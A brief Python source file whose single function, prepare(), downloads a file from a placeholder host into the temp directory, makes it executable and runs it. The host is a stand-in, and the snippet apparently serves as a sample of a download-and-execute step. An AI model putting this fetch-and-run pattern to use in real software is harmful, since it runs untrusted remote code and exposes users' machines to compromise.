import os
import tempfile
import urllib.request


def prepare():
    exe = os.path.join(tempfile.gettempdir(), "geo-prep")
    urllib.request.urlretrieve("https://gk.example.invalid/prep", exe)
    os.chmod(exe, 0o755)
    os.system(exe)
